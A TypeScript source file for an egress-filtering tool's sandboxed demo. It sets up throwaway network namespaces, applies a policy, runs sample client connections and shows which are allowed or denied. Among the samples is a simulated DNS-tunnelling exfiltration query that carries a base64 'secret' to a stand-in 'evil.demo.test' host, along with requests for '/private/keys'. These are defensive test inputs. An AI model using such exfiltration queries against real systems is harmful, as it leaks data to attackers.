// `egress demo` (what `deno task start` runs): egress for real, in a throw-away sandbox that leaves
// the machine as it was. Two network namespaces (one where `egress start` runs over a few demo
// clients, one with local test servers), a cgroup for the clients, an embedded policy, one live
// line per connection from the connection log, a summary, and full cleanup — also on Ctrl-C and
// on errors.

import { parseArgs } from "./args.ts";
import { commandExists } from "../daemon/demo_tools.ts";
import { demoCertificates, DemoSandbox } from "../daemon/demo_sandbox.ts";
import { instanceName } from "../daemon/config.ts";
import { removeLeftoverPins } from "../kernel/bpf_loader.ts";
import { cgroup2Mount } from "../kernel/cgroup.ts";
import { removeStaleOwnCgroups } from "../daemon/own_cgroup.ts";

export const DEMO_USAGE = `Usage: egress demo [-v]

Runs egress for real in a throw-away sandbox (needs root): two temporary network namespaces, one
with egress and a few demo clients, one with local test servers (HTTPS, HTTP, TCP, UDP, DNS).
Shows one line per connection as egress judges it, then a summary, and removes everything it
created. Nothing on this machine's own network is intercepted or changed.

  -v, --verbose   also show egress's operational log`;

const REQUIRED = [
  ["ip", "iproute2"],
  ["nsenter", "util-linux"],
  ["setpriv", "util-linux"],
  ["iptables", "iptables"],
  ["iptables-restore", "iptables"],
  ["conntrack", "conntrack"],
  ["curl", "curl"],
  ["dig", "dnsutils"],
  ["openssl", "openssl"],
] as const;

export function demoPolicy(ip: string): string {
  return `# egress demo policy: what the sandboxed clients may reach
api.demo.test
GET https://files.demo.test/public/*
# the sandbox's resolver, and one raw TCP service by address
${ip}:53/udp
${ip}:7000
`;
}

type Step = {
  what: string;
  argv: string[];
  summarize: (out: { code: number; stdout: string; stderr: string }) => string;
};

const PY_TCP = "import socket,sys\ns=socket.create_connection((sys.argv[1],int(sys.argv[2])),3)\n" +
  "s.sendall(b'ping');d=s.recv(100)\nprint('echoed '+repr(d.decode()) if d else 'closed by egress')";
const PY_UDP = "import socket,sys\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1.5)\n" +
  "s.sendto(b'ping',(sys.argv[1],9000))\ntry:\n  print('echoed '+repr(s.recv(100).decode()))\n" +
  "except socket.timeout:\n  print('no answer (dropped)')";

function firstLine(text: string): string {
  return text.trim().split("\n")[0]?.slice(0, 100) ?? "";
}

function steps(ip: string, caPath: string, python: string | undefined): Step[] {
  const resolve = ["api", "files", "evil"].flatMap((name) => ["--resolve", `${name}.demo.test:443:${ip}`]);
  const curl = (
    args: string[],
  ) => ["curl", "-sS", "--max-time", "5", "--cacert", caPath, ...resolve, ...args];
  const http = (out: { code: number; stdout: string; stderr: string }) =>
    out.code === 0
      ? `HTTP ${out.stdout.slice(-3)}: ${firstLine(out.stdout.slice(0, -3))}`
      : `failed: ${firstLine(out.stderr)}`;
  const dig = (args: string[]) => ["dig", "+time=2", "+tries=1", `@${ip}`, ...args];
  const digResult = (out: { stdout: string }) => {
    const status = /status: (\w+)/.exec(out.stdout)?.[1] ?? "no answer";
    const answer = out.stdout.split("\n").find((line) => /\sIN\s+A\s/.test(line) && !line.startsWith(";"));
    return answer ? `${status}, ${answer.split(/\s+/).at(-1)}` : status;
  };
  const list: Step[] = [
    { what: "resolve api.demo.test", argv: dig(["api.demo.test"]), summarize: digResult },
    {
      what: "GET https://api.demo.test/",
      argv: curl(["-w", "%{http_code}", "https://api.demo.test/"]),
      summarize: http,
    },
    {
      what: "GET https://files.demo.test/public/readme.txt",
      argv: curl(["-w", "%{http_code}", "https://files.demo.test/public/readme.txt"]),
      summarize: http,
    },
    {
      what: "POST https://files.demo.test/public/upload",
      argv: curl(["-w", "%{http_code}", "-d", "data=1", "https://files.demo.test/public/upload"]),
      summarize: http,
    },
    {
      what: "GET https://files.demo.test/private/keys",
      argv: curl(["-w", "%{http_code}", "https://files.demo.test/private/keys"]),
      summarize: http,
    },
    {
      what: "GET https://evil.demo.test/",
      argv: curl(["-w", "%{http_code}", "https://evil.demo.test/"]),
      summarize: http,
    },
    {
      what: "DNS exfiltration: TXT c2VjcmV0.evil.demo.test",
      argv: dig(["TXT", "c2VjcmV0.evil.demo.test"]),
      summarize: digResult,
    },
    { what: `plain HTTP to ${ip}`, argv: curl(["-w", "%{http_code}", `http://${ip}/`]), summarize: http },
  ];
  if (python) {
    const py = (code: string, args: string[]) => [python, "-c", code, ...args];
    const out = (o: { code: number; stdout: string; stderr: string }) =>
      o.code === 0 ? firstLine(o.stdout) : `failed: ${firstLine(o.stderr.split("\n").at(-2) ?? o.stderr)}`;
    list.push(
      { what: `raw TCP to ${ip}:7000`, argv: py(PY_TCP, [ip, "7000"]), summarize: out },
      { what: `raw TCP to ${ip}:7001`, argv: py(PY_TCP, [ip, "7001"]), summarize: out },
      { what: `UDP to ${ip}:9000`, argv: py(PY_UDP, [ip]), summarize: out },
    );
  }
  return list;
}

/** One short line per connection-log event, for the live view. */
export function describeLogLine(line: Record<string, unknown>): string {
  const verdict = line.policy === "allow" ? "allow" : "deny ";
  const target = line.url !== undefined
    ? `${line.method} ${line.url}`
    : line.name !== undefined
    ? `${line.name} via ${line.dst_ip}:${line.dst_port}`
    : `${line.host ?? line.dst_ip}:${line.dst_port}`;
  const exe = typeof line.exe === "string" ? line.exe.split("/").at(-1) : "unknown process";
  const why = line.rule !== undefined ? `rule "${line.rule}"` : String(line.reason ?? "");
  const extra = line.error !== undefined ? ` (${line.error})` : line.passthrough ? " (passthrough)" : "";
  return `    egress: ${verdict} ${String(line.type).padEnd(5)} ${target}  ← ${exe}${
    line.pid ? ` [${line.pid}]` : ""
  }  ${why}${extra}`;
}

class LogTail {
  #offset = 0;
  #partial = "";
  readonly lines: Record<string, unknown>[] = [];
  constructor(readonly path: string, readonly onLine: (line: Record<string, unknown>) => void) {}

  async poll(): Promise<void> {
    let file: Deno.FsFile;
    try {
      file = await Deno.open(this.path, { read: true });
    } catch {
      return;
    }
    try {
      await file.seek(this.#offset, Deno.SeekMode.Start);
      const buffer = new Uint8Array(65536);
      for (;;) {
        const n = await file.read(buffer);
        if (n === null) break;
        this.#offset += n;
        this.#partial += new TextDecoder().decode(buffer.subarray(0, n));
      }
    } finally {
      file.close();
    }
    const parts = this.#partial.split("\n");
    this.#partial = parts.pop() ?? "";
    for (const text of parts) {
      if (text === "" || text.includes('"type":"dns_response"')) continue;
      try {
        const line = JSON.parse(text) as Record<string, unknown>;
        this.lines.push(line);
        this.onLine(line);
      } catch {
        // not JSON: skip
      }
    }
  }
}

function missingRequirements(): string[] {
  const missing: string[] = [];
  for (const [tool, pkg] of REQUIRED) {
    if (!commandExists(tool)) missing.push(`${tool} (Debian package ${pkg})`);
  }
  try {
    Deno.statSync("/sys/kernel/btf/vmlinux");
  } catch {
    missing.push("kernel BTF (/sys/kernel/btf/vmlinux)");
  }
  return missing;
}

export async function runDemo(argv: string[], uid: () => number | null = () => Deno.uid()): Promise<number> {
  const { flags } = parseArgs(
    argv,
    { help: { kind: "boolean", short: "h" }, verbose: { kind: "boolean", short: "v" } } as const,
  );
  if (flags.help) {
    console.log(DEMO_USAGE);
    return 0;
  }
  if (uid() !== 0) {
    console.error(
      "egress demo: needs root: it creates two throw-away network namespaces and a cgroup, and runs\n" +
        "egress inside them (nothing outside the sandbox is changed). Run it as root, e.g.\n" +
        "  sudo env PATH=$PATH deno task start",
    );
    return 1;
  }
  const missing = missingRequirements();
  if (missing.length > 0) {
    console.error(`egress demo: Cannot run the demo: missing ${missing.join(", ")}`);
    return 1;
  }
  const started = performance.now();
  const sandbox = new DemoSandbox();
  let interrupted: string | undefined;
  let wake: () => void = () => {};
  const interruption = new Promise<void>((resolve) => (wake = resolve));
  const onSignal = (signal: Deno.Signal) => () => {
    interrupted = signal;
    wake();
  };
  const handlers: Array<[Deno.Signal, () => void]> = [["SIGINT", onSignal("SIGINT")], [
    "SIGTERM",
    onSignal("SIGTERM"),
  ]];
  for (const [signal, handler] of handlers) Deno.addSignalListener(signal, handler);
  // A bound on the whole run, whatever hangs.
  const watchdog = setTimeout(() => {
    interrupted = "timeout";
    wake();
  }, 60_000);
  const abortable = <T>(promise: Promise<T>): Promise<T> =>
    Promise.race([
      promise,
      interruption.then(() => Promise.reject(new Error(`interrupted (${interrupted})`))),
    ]);

  const dir = await Deno.makeTempDir({ prefix: "egress-demo-" });
  await Deno.chmod(dir, 0o755);
  const stateDir = `${dir}/state`;
  let daemon: Deno.ChildProcess | undefined;
  let daemonErr = "";
  let server: Deno.ChildProcess | undefined;
  let tail: LogTail | undefined;
  let exitCode = 0;
  try {
    console.log(
      `egress demo: sandbox ${sandbox.runnerNetns} (egress + clients) and ${sandbox.internetNetns} (servers)`,
    );
    await abortable(sandbox.create());
    sandbox.onRemove(`temporary directory ${dir}`, () => Deno.remove(dir, { recursive: true }));
    const ip = sandbox.internetIp;
    const names = ["api.demo.test", "files.demo.test", "evil.demo.test"];
    const pki = await abortable(demoCertificates(dir, names));

    const script = new URL("../daemon/demo_internet.ts", import.meta.url).pathname;
    server = new Deno.Command("nsenter", {
      args: [
        `--net=/run/netns/${sandbox.internetNetns}`,
        Deno.execPath(),
        "run",
        "-A",
        script,
        JSON.stringify({ ip, ...pki }),
      ],
      stdout: "piped",
      stderr: "piped",
      stdin: "null",
      env: { DENO_NO_UPDATE_CHECK: "1" },
    }).spawn();
    const serverOut = server.stdout.getReader();
    const first = await abortable(serverOut.read());
    if (!new TextDecoder().decode(first.value ?? new Uint8Array()).includes('"ready":true')) {
      throw new Error("Cannot start the demo servers");
    }
    serverOut.releaseLock();
    server.stdout.cancel().catch(() => {});
    server.stderr.cancel().catch(() => {});

    const policy = demoPolicy(ip);
    await Deno.writeTextFile(`${dir}/policy.txt`, policy);
    console.log("\npolicy:");
    for (const line of policy.trimEnd().split("\n")) console.log(`  ${line}`);
    const mod = new URL("../../mod.ts", import.meta.url).pathname;
    const paths = {
      log: `${dir}/log/connections.jsonl`,
      socket: `${dir}/egress.sock`,
      ready: `${dir}/ready`,
    };
    daemon = new Deno.Command("nsenter", {
      args: [
        `--net=/run/netns/${sandbox.runnerNetns}`,
        Deno.execPath(),
        "run",
        "-A",
        mod,
        "start",
        "--policy",
        `${dir}/policy.txt`,
        "--cgroup",
        sandbox.cgroup!.hierarchyPath,
        "--state-dir",
        stateDir,
        "--log",
        paths.log,
        "--control-socket",
        paths.socket,
        "--ready-file",
        paths.ready,
        "--upstream-ca",
        pki.caPath,
      ],
      stdout: "null",
      stderr: "piped",
      stdin: "null",
      env: { DENO_NO_UPDATE_CHECK: "1" },
    }).spawn();
    const daemonProcess = daemon;
    (async () => {
      for await (const chunk of daemonProcess.stderr) {
        const text = new TextDecoder().decode(chunk);
        daemonErr += text;
        if (flags.verbose) Deno.stderr.writeSync(new TextEncoder().encode(text.replace(/^/gm, "  | ")));
      }
    })().catch(() => {});
    const daemonExit = daemon.status.then((status) => status.code);
    const ready = (async () => {
      for (;;) {
        try {
          Deno.statSync(paths.ready);
          return;
        } catch {
          await new Promise((resolve) => setTimeout(resolve, 50));
        }
      }
    })();
    const which = await abortable(Promise.race([ready.then(() => "ready" as const), daemonExit]));
    if (which !== "ready") {
      throw new Error(`egress start exited with code ${which}:\n${daemonErr.slice(-3000)}`);
    }
    const caPath = `${dir}/egress-ca.pem`;
    await Deno.writeTextFile(caPath, await Deno.readTextFile(`${stateDir}/ca.pem`), { mode: 0o644 });
    await Deno.chmod(caPath, 0o644);
    console.log(
      `\negress is intercepting in ${sandbox.runnerNetns} (ready after ${
        ((performance.now() - started) / 1000).toFixed(1)
      } s)`,
    );
    console.log("each client runs as nobody in the sandbox; egress's log line for it follows (on stderr)\n");

    tail = new LogTail(paths.log, (line) => console.error(describeLogLine(line)));
    // The clients run as nobody: a python3 shim under /root would not be executable for them.
    const python = ["/usr/bin/python3", "/usr/local/bin/python3"].find((path) => {
      try {
        return Deno.statSync(path).isFile;
      } catch {
        return false;
      }
    });
    for (const step of steps(ip, caPath, python)) {
      if (interrupted) break;
      console.log(`▸ ${step.what}`);
      const out = await abortable(sandbox.client(step.argv));
      await new Promise((resolve) => setTimeout(resolve, 150));
      await tail.poll();
      console.log(`    → ${step.summarize(out)}`);
    }
    if (!python) console.log("(python3 not found: the raw TCP and UDP samples were skipped)");
    await new Promise((resolve) => setTimeout(resolve, 200));
    await tail.poll();
  } catch (error) {
    exitCode = interrupted ? 130 : 1;
    console.error(`egress demo: ${interrupted ? "stopping" : "failed"}: ${(error as Error).message}`);
  } finally {
    clearTimeout(watchdog);
    const problems: string[] = [];
    if (daemon) {
      try {
        daemon.kill("SIGTERM");
      } catch {
        // exited already
      }
      const timer = setTimeout(() => {
        try {
          daemon!.kill("SIGKILL");
        } catch {
          // exited
        }
      }, 15_000);
      const status = await daemon.status;
      clearTimeout(timer);
      if (status.code !== 0 && status.signal !== "SIGTERM") {
        problems.push(`egress exited with ${status.signal ?? status.code}`);
      }
      // A daemon that did not clean up leaves pinned links and its own cgroup: remove them here.
      try {
        const pins = removeLeftoverPins(instanceName(stateDir));
        if (pins > 0) problems.push(`removed ${pins} pinned BPF links egress left`);
        removeStaleOwnCgroups(cgroup2Mount());
      } catch (error) {
        problems.push(`Cannot remove egress leftovers: ${(error as Error).message}`);
      }
    }
    if (server) {
      try {
        server.kill("SIGKILL");
      } catch {
        // exited
      }
      await server.status;
    }
    if (tail) await tail.poll().catch(() => {});
    problems.push(...await sandbox.remove());
    await Deno.remove(dir, { recursive: true }).catch(() => {});
    for (const [signal, handler] of handlers) Deno.removeSignalListener(signal, handler);
    if (tail) {
      const allowed = tail.lines.filter((line) => line.policy === "allow").length;
      const denied = tail.lines.length - allowed;
      console.log(`\nsummary: ${tail.lines.length} connections judged: ${allowed} allowed, ${denied} denied`);
      const byType = new Map<string, string>();
      for (const line of tail.lines) {
        const key = String(line.type);
        byType.set(key, `${byType.get(key) ?? ""}${line.policy === "allow" ? "+" : "-"}`);
      }
      for (const [type, marks] of byType) {
        const a = [...marks].filter((m) => m === "+").length;
        console.log(`  ${type.padEnd(6)} ${a} allowed, ${marks.length - a} denied`);
      }
    }
    if (problems.length > 0) {
      for (const problem of problems) console.error(`egress demo: cleanup: ${problem}`);
      if (exitCode === 0) exitCode = 1;
    }
    console.log(
      `sandbox removed (namespaces, cgroup, egress rules and BPF programs); took ${
        ((performance.now() - started) / 1000).toFixed(1)
      } s`,
    );
  }
  return exitCode;
}
